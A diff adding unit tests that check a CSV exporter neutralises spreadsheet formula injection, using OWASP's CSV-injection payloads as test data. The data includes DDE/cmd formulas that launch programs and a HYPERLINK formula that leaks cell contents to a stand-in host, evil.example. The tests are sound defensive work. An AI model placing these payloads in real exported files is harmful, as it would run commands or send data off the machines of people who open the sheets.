@@ -43,6 +43,61 @@ describe("CSV", () => {
   });
 });
 
+// The payloads of OWASP's "CSV Injection" page and ASVS 1.2.10, and formulas hidden after a
+// separator a spreadsheet might split on (comma, semicolon, tab)
+const owasp = [
+  "=cmd|' /C calc'!A0",
+  "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click for further information\")",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  "\n-3+3+cmd|' /C calc'!A0",
+  "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+  "\t=1+2",
+  "\r=1+2",
+  "\0=1+2",
+  "  =1+2",
+  "\"=1+2\"",
+];
+const afterSeparator = ["x;=1+2", "x,=1+2", "x\t=1+2", "x; =1+2;", ";=1+2;", ",=1+2", "\t@SUM(1,2)", "a;b,=HYPERLINK(\"http://evil.example\");c"];
+const formulaStart = /^\s*[=+\-@]/;
+
+describe("CSV injection (OWASP payloads)", () => {
+  test.each(owasp)("%j is neutralised with a leading apostrophe", (value) => {
+    expect(neutraliseCell(value)).toBe(`'${value}`);
+  });
+
+  test("OWASP's own examples come out exactly as its escaped output", () => {
+    const csv = toCsv(["h"], [['=1+2";=1+2'], ["=1+2'\" ;,=1+2"]]);
+
+    expect(csv).toBe('\uFEFF"h"\r\n"\'=1+2"";=1+2"\r\n"\'=1+2\'"" ;,=1+2"');
+  });
+
+  test("a cell holding a separator is quoted: x;=1+2 stays one text cell", () => {
+    expect(toCsv(["a", "b"], [["x;=1+2", "x\t=1+2"]])).toBe('\uFEFF"a","b"\r\n"x;=1+2","x\t=1+2"');
+  });
+
+  test.each([",", ";", "\t"])("read with %j as the separator, no cell of the file starts a formula", (delimiter) => {
+    const rows = [...owasp, ...afterSeparator, ...dangerous, ...harmless].map((v, i) => [i, v, -i, null, v]);
+
+    const csv = toCsv(["#", "text", "n", "empty", "again"], rows);
+
+    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter, newline: "\r\n" }).data;
+    expect(parsed).toHaveLength(rows.length + 1);
+    // a negative number is a number, not a formula
+    for (const cell of parsed.flat().filter((c) => !/^-\d+$/.test(c))) expect(cell, JSON.stringify(cell)).not.toMatch(formulaStart);
+  });
+
+  test("read with the comma it was written with, every text comes back as written (after the apostrophe)", () => {
+    const values = [...owasp, ...afterSeparator];
+
+    const parsed = Papa.parse<string[]>(toCsv(["text"], values.map((v) => [v])).slice(1), { newline: "\r\n" }).data;
+
+    expect(parsed.slice(1).map((r) => unguard(r[0]!))).toEqual(values);
+  });
+});
+
 describe("XLSX", () => {
   test("reads back with every dangerous cell inert and every text intact", async () => {
     const values = [...dangerous, ...harmless];
